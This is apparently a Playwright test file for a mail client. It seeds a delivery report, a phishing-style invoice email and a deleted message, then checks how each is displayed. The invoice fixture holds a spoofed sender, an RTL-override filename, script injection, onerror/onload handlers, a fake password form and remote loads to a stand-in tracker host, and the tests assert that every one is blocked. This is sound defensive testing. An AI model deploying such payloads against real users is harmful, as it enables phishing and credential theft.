/** Messages as a person reads them: one with attachments, one that means harm, a delivery report; parts opened and saved. */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { FrameLocator } from 'playwright-core';
import { expand, openMailboxes, row } from './mailboxes-view';
import type { Scenario } from './scenario';
import type { Workbench } from './workbench';

const eml = (...lines: readonly string[]): string => `${lines.join('\r\n')}\r\n`;

const report = eml(
  'Received: from mx.example.org (mx.example.org [192.0.2.7]) (using TLSv1.3) by in.example.test with ESMTPS id 77',
  ' for <alice@example.test>; Tue, 1 Dec 2026 10:00:02 +0000',
  'Received: from localhost by mx.example.org with LMTP id 76; Tue, 1 Dec 2026 10:04:00 +0000',
  'Received: by localhost (Postfix) id 75; Tue, 1 Dec 2026 09:59:58 +0000',
  'Authentication-Results: in.example.test; spf=pass smtp.mailfrom=mx.example.org;',
  ' dkim=fail (body hash did not verify) header.d=example.org; dmarc=none header.from=example.org',
  'From: Mail Delivery System <MAILER-DAEMON@mx.example.org>',
  'To: alice@example.test',
  'Subject: =?utf-8?q?Undelivered_Mail_Returned_=E2=80=93_sorry?=',
  'Date: Tue, 1 Dec 2026 10:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: multipart/report; report-type=delivery-status; boundary=r',
  '',
  '--r',
  'Content-Type: text/plain; charset=utf-8',
  '',
  'Your message could not be delivered.',
  '--r',
  'Content-Type: message/delivery-status',
  '',
  'Original-Envelope-Id: QQ314159+2B1',
  'Reporting-MTA: dns; mx.example.org',
  'Arrival-Date: Tue, 1 Dec 2026 09:59:58 +0000',
  '',
  'Original-Recipient: rfc822;Nobody@example.org',
  'Final-Recipient: rfc822; nobody@example.org',
  'Action: failed',
  'Status: 5.1.1',
  'Remote-MTA: dns; mx2.example.org',
  'Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.org>: no such user',
  '',
  'Final-Recipient: rfc822; slow@example.org',
  'Action: delayed',
  'Status: 4.4.1',
  'Will-Retry-Until: Fri, 4 Dec 2026 10:00:00 +0000',
  '',
  '--r',
  'Content-Type: text/rfc822-headers',
  '',
  'Subject: hello',
  '',
  '--r--',
);

const attachment = 'name;amount\r\nPläne;12\r\n'.repeat(20_000);
const harmful = eml(
  'From: "service@bank.example" <evil@x.example>',
  'To: alice@example.test',
  'Subject: =?utf-8?b?SW52b2ljZSDigK5mZHAuZXhl?=',
  'Date: Tue, 1 Dec 2026 10:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary=m',
  '',
  '--m',
  'Content-Type: multipart/alternative; boundary=a',
  '',
  '--a',
  'Content-Type: text/plain; charset=utf-8',
  '',
  'Please pay.',
  '--a',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><head><meta http-equiv="refresh" content="0;url=http://tracker.example/refresh">',
  '<base href="http://tracker.example/"><link rel="stylesheet" href="http://tracker.example/a.css">',
  '<style>@import url(http://tracker.example/b.css); body { background: url("http://tracker.example/c.png") } h1 { color: #0a5 }</style>',
  '<script>fetch("http://tracker.example/script"); parent.document.title = "pwned"; document.body.innerHTML = "pwned"</script></head>',
  '<body onload="document.body.textContent = \'pwned\'"><h1>Your invoice</h1><p style="background:u\\72l(http://tracker.example/d.png)">Please pay.</p>',
  '<img src="http://tracker.example/pixel.gif" onerror="document.body.textContent = \'pwned\'"><img src=x onerror=alert(1)>',
  '<svg onload="alert(2)"><image href="http://tracker.example/e.png"/></svg><video poster="http://tracker.example/f.png" src="http://tracker.example/g.mp4"></video>',
  '<iframe src="http://tracker.example/frame"></iframe><object data="http://tracker.example/h"></object>',
  '<form action="http://tracker.example/form"><input name="password" autofocus><button>Sign in</button></form>',
  '<a href="http://tracker.example/link" target="_top">bank.example</a> <a href="javascript:alert(3)">here</a>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs="><img id="logo" src="cid:logo%40bank.example"></body></html>',
  '--a--',
  '--m',
  'Content-Type: image/gif',
  'Content-ID: <logo@bank.example>',
  'Content-Disposition: inline',
  'Content-Transfer-Encoding: base64',
  '',
  'R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs=',
  '--m',
  'Content-Type: text/csv; charset=utf-8; name="table.csv"',
  'Content-Disposition: attachment; filename="table.csv"',
  'Content-Transfer-Encoding: base64',
  '',
  ...(Buffer.from(attachment)
    .toString('base64')
    .match(/.{1,76}/g) ?? []),
  '--m--',
);

/** Messages in alice's INBOX of the sandbox, by a file of the workspace. */
const seed = ({ folder }: Workbench, ...messages: readonly string[]): void => {
  mkdirSync(join(folder, 'mail'));
  for (const [index, message] of messages.entries()) writeFileSync(join(folder, 'mail', `${index + 1}.eml`), message);
  writeFileSync(join(folder, 'mailwright.env.json'), JSON.stringify({ sandbox: { seed: ['alice=./mail'] } }));
};

/** Opens INBOX: what it holds shows, the newest first. */
const openInbox = async (workbench: Workbench): Promise<FrameLocator> => {
  const view = await openMailboxes(workbench);
  await expand(view, 'alice');
  await row(view, 'INBOX').click();
  await workbench.press('Enter');
  const list = workbench.tabPage();
  await list.locator('#canvas .row').first().waitFor();
  return list;
};

/** Opens the newest message of the list by keyboard. */
const openMessage = async (
  workbench: Workbench,
  list: FrameLocator,
  heading: string | RegExp,
): Promise<FrameLocator> => {
  await list.locator('#rows').focus();
  await workbench.press('Home');
  await workbench.press('Enter');
  const view = workbench.tabPage();
  await view.locator('h1', { hasText: heading }).waitFor();
  return view;
};

const reading: Scenario = {
  name: 'a delivery report is read: recipients, way, authentication, parts, source',
  run: async (workbench) => {
    seed(workbench, report);
    const view = await openMessage(workbench, await openInbox(workbench), 'Undelivered Mail Returned – sorry');
    await workbench.shot('report');
    const row = view.locator('#report tbody tr').first();
    const cells = await row.locator('th, td').allTextContents();
    assert.match(cells[0] ?? '', /nobody@example\.org/);
    assert.deepEqual(cells.slice(1, 3), ['failed', '5.1.1']);
    assert.match(cells[3] ?? '', /failed for good: bad destination mailbox address/);
    assert.match((await view.locator('#report dl').textContent()) ?? '', /QQ314159\+1/);
    await view.locator('#way').scrollIntoViewIfNeeded();
    assert.match((await view.locator('#way').textContent()) ?? '', /\+4 min 2 s.*the time runs backwards/s);
    await workbench.shot('way');
    await view.locator('#header').scrollIntoViewIfNeeded();
    assert.match((await view.locator('#authentication').textContent()) ?? '', /dkimfail.*the signature does not fit/s);
    await workbench.shot('authentication');

    // by keyboard: a part as a document, then the source
    const parts = view.locator('[role=treeitem]');
    await parts.first().focus();
    await workbench.press('ArrowDown');
    await workbench.press('ArrowDown');
    assert.match(
      (await view.locator('[role=treeitem]:focus').getAttribute('aria-label')) ?? '',
      /^Part 2, message\/delivery-status/,
    );
    await workbench.shot('parts');
    await workbench.press('Enter');
    await workbench.line('Original-Envelope-Id: QQ314159+2B1').waitFor();
    await workbench.shot('part');
    await workbench.page.locator('.tab', { hasText: 'Undelivered' }).click();
    await view.locator('button', { hasText: 'Open Source' }).click();
    await workbench.line('Authentication-Results: in.example.test').waitFor();
    await workbench.shot('source');
  },
};

const harmless: Scenario = {
  name: 'a message that would script, load and phone home does nothing, and its attachment is saved',
  run: async (workbench) => {
    const { page, folder } = workbench;
    const requests: string[] = [];
    const dialogs: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    seed(workbench, harmful);
    const view = await openMessage(workbench, await openInbox(workbench), 'Invoice ‹U+202E›fdp.exe');
    await workbench.shot('harmful-top');
    assert.match(
      (await view.locator('#notices').textContent()) ?? '',
      /name looks like an address \(service@bank\.example\)/,
    );

    const frame = view.frameLocator('#html iframe');
    await frame.locator('h1', { hasText: 'Your invoice' }).waitFor();
    await frame.locator('#logo').waitFor({ state: 'attached' });
    await view.locator('#html').scrollIntoViewIfNeeded();
    const blocked = (await view.locator('#blocked').textContent()) ?? '';
    for (const what of ['script', 'remote picture', 'form', 'embedded page', 'remote style sheet', 'instruction'])
      assert.match(blocked, new RegExp(what), `“${what}” is not said to be blocked: ${blocked}`);
    assert.equal(
      await frame.locator('script, iframe, form, input, object, svg, link, meta[http-equiv=refresh]').count(),
      0,
    );
    assert.equal(await frame.locator('[href], [src^=http], [onload], [onerror]').count(), 0);
    assert.equal(await view.locator('#html iframe').getAttribute('sandbox'), '');
    // a picture that is in the message itself is shown out of it
    await frame.locator('#logo[src^="data:image/gif;base64,"]').waitFor({ state: 'attached' });
    // what a sender styles is styled, what a sender links is not followed
    assert.equal(
      await frame.locator('h1').evaluate((node) => node.ownerDocument.defaultView?.getComputedStyle(node).color),
      'rgb(0, 170, 85)',
    );
    await frame.locator('a', { hasText: 'bank.example' }).click();
    await view.locator('#html summary').click();
    assert.match((await view.locator('#html table').textContent()) ?? '', /http:\/\/tracker\.example\/link/);
    await workbench.shot('harmful-html');
    assert.doesNotMatch((await frame.locator('body').textContent()) ?? '', /pwned/);
    assert.deepEqual(dialogs, []);
    assert.deepEqual(
      requests.filter((url) => url.includes('tracker.example')),
      [],
    );

    const attached = view.locator('[role=treeitem]', { hasText: 'table.csv' });
    await attached.focus();
    await workbench.press('s');
    await workbench.answerPath(join(folder, 'saved.csv'), 'table.csv');
    await workbench.toast(/saved\.csv: 480000 octets saved/);
    await workbench.shot('saved');
    assert.equal(readFileSync(join(folder, 'saved.csv'), 'utf8'), attachment);
  },
};

const gone: Scenario = {
  name: 'a message that somebody deletes says so, and what to do',
  run: async (workbench) => {
    seed(workbench, report);
    writeFileSync(
      join(workbench.folder, 'delete.imap'),
      ['### Delete', 'auth alice', 'C: SELECT INBOX', 'C: STORE 1 +FLAGS (\\Deleted)', 'C: EXPUNGE', ''].join('\n'),
    );
    const view = await openMessage(workbench, await openInbox(workbench), 'Undelivered');
    await workbench.openFile('delete.imap');
    await workbench.lens('Run').click();
    await workbench.page.locator('.statusbar-item', { hasText: '1 passed, 0 failed' }).waitFor();
    await workbench.page.locator('.tab', { hasText: 'Undelivered' }).click();
    await view.locator('button', { hasText: 'Open Source' }).click();
    await workbench.toast(
      /message-1\.eml was not opened: The message with UID 1 is not in INBOX any more.*list of messages again/i,
    );
    await workbench.shot('gone');
  },
};

export const scenarios: readonly Scenario[] = [reading, harmless, gone];
